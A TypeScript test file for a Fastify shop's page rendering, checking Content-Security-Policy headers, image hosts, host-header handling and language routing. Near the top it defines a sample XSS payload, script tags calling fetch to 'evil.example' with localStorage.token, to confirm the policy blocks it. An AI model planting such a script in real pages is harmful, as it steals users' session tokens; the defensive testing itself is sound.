import { STANDARD_SETTINGS } from '@shop/contract/setting-list'
import { createHash } from 'node:crypto'
import { once } from 'node:events'
import { get, type IncomingMessage, type RequestOptions } from 'node:http'
import type { AddressInfo } from 'node:net'
import Fastify, { type FastifyInstance } from 'fastify'
import { afterAll, beforeAll, expect, onTestFinished, test } from 'vitest'
import { addPageRoutes } from './render-pages'

const INLINE = 'window.page = 1'
const SMUGGLED = 'fetch("//evil.example/" + localStorage.token)'
/** What a review could hold if a page showed it unescaped, with guesses at the mark of our own scripts. */
const INJECTED = [
  `<script>${SMUGGLED}</script>`,
  `<script nonce="">${SMUGGLED}</script>`,
  `<script nonce="guess">${SMUGGLED}</script>`,
]
let pictureHosts: string[] = []
let isDatabaseAway = false
const asked: Request[] = []
const languages: string[] = []

let app: FastifyInstance
beforeAll(async () => {
  app = Fastify()
  app.get('/api/leagues', () => [{ name: 'Serie A' }])
  addPageRoutes(app, {
    renderer: (language) =>
      Promise.resolve({
        render: async (request, { send, scriptMark }) => {
          asked.push(request)
          languages.push(language)
          const { body } = await send({ method: 'GET', url: '/api/leagues' })
          const ours = `nonce="${scriptMark}"`
          const scripts = `<script ${ours}>${INLINE}</script><script ${ours} type="module" src="/assets/page.js"></script>`
          return new Response(`<p>${JSON.stringify(body)}${INJECTED.join('')}</p>${scripts}`, {
            status: 203,
            headers: { 'content-type': 'text/html' },
          })
        },
        backendHost: '',
      }),
    settings: () => STANDARD_SETTINGS,
    site: { url: 'https://shop.example' },
    contentSecurityPolicy: true,
    takesStripe: false,
    pictureHosts: () => (isDatabaseAway ? Promise.reject(new Error('gone')) : Promise.resolve(pictureHosts)),
  })
  await app.listen({ host: '127.0.0.1', port: 0 })
})
afterAll(() => app.close())

test('a page is rendered with what the API answers in-process', async () => {
  const response = await app.inject('/leagues')

  expect(response.statusCode).toBe(203)
  expect(response.headers).toMatchObject({ 'content-type': 'text/html', 'cache-control': 'private, no-cache' })
  expect(response.body).toContain('Serie A')
})

test('a page that says that the database is away comes as a page', async () => {
  isDatabaseAway = true
  onTestFinished(() => void (isDatabaseAway = false))

  const response = await app.inject('/leagues')

  expect(response.statusCode).toBe(203)
  expect(response.headers['content-security-policy']).toContain("img-src 'self'")
})

test('security case 27: its policy allows its own inline scripts and no others', async () => {
  const policy = String((await app.inject('/leagues')).headers['content-security-policy'])

  const hash = createHash('sha256').update(INLINE).digest('base64')
  expect(policy).toContain(`script-src 'self' 'sha256-${hash}';`)
  expect(policy).not.toContain('unsafe-inline')
})

test('security case 27: a script that got into the page with what it shows is not allowed', async () => {
  const { headers, body } = await app.inject('/leagues')

  expect(body).toContain(SMUGGLED)
  const hash = createHash('sha256').update(SMUGGLED).digest('base64')
  expect(headers['content-security-policy']).not.toContain(hash)
})

test('a page is the same for everybody: nothing in it tells what its scripts were known by', async () => {
  const [one, other] = [await app.inject('/leagues'), await app.inject('/leagues')]

  expect(one.body).toBe(other.body)
  expect(one.headers['content-security-policy']).toBe(other.headers['content-security-policy'])
  expect(one.body).toContain(`<script>${INLINE}</script>`)
})

test.each([
  ['/leagues', [], "img-src 'self' data: blob:;"],
  ['/leagues', ['https://cdn.example'], "img-src 'self' data: blob: https://cdn.example;"],
  ['/leagues', Array.from({ length: 51 }, (_, at) => `https://${at}.example`), "img-src 'self' data: blob: https:;"],
  ['/admin/products', [], "img-src 'self' data: blob: https:;"],
  ['/ar/admin/products', [], "img-src 'self' data: blob: https:;"],
  ['/administrator', [], "img-src 'self' data: blob:;"],
])(
  'security case 27: %s shows pictures of the shop and of the hosts that products name',
  async (path, hosts, sources) => {
    pictureHosts = hosts
    expect((await app.inject(path)).headers['content-security-policy']).toContain(sources)
    pictureHosts = []
  },
)

test.each([
  ['/products?page=2', '/products?page=2'],
  ['/leagues?utm_source=2', '/leagues'],
  ['/ar/leagues?utm_source=2', '/ar/leagues'],
  ['//elsewhere.example/leagues', '//elsewhere.example/leagues'],
  ['http://elsewhere.example/leagues', '/leagues'],
  ['//', '//'],
])('GET %s is a page of this shop, whatever host it names', async (path, own) => {
  const headers = { host: 'elsewhere.example', authorization: 'Bearer secret' }

  expect(await statusOf({ path, headers })).toBe(203)

  expect(asked.at(-1)?.url).toBe(`https://shop.example${own}`)
  expect(asked.at(-1)?.headers.has('authorization')).toBe(false)
})

test.each([
  ['/', 'en'],
  ['/arabic', 'en'],
  ['/ar', 'ar'],
  ['/ar/products?page=2', 'ar'],
])('%s is rendered by the build in %s', async (path, language) => {
  await app.inject(path)

  expect(languages.at(-1)).toBe(language)
})

/** Over a real connection, because `inject` tidies the path. */
async function statusOf(options: RequestOptions): Promise<number | undefined> {
  const { port } = app.server.address() as AddressInfo
  const [response] = (await once(get({ host: '127.0.0.1', port, ...options }), 'response')) as [IncomingMessage]
  response.resume()
  return response.statusCode
}
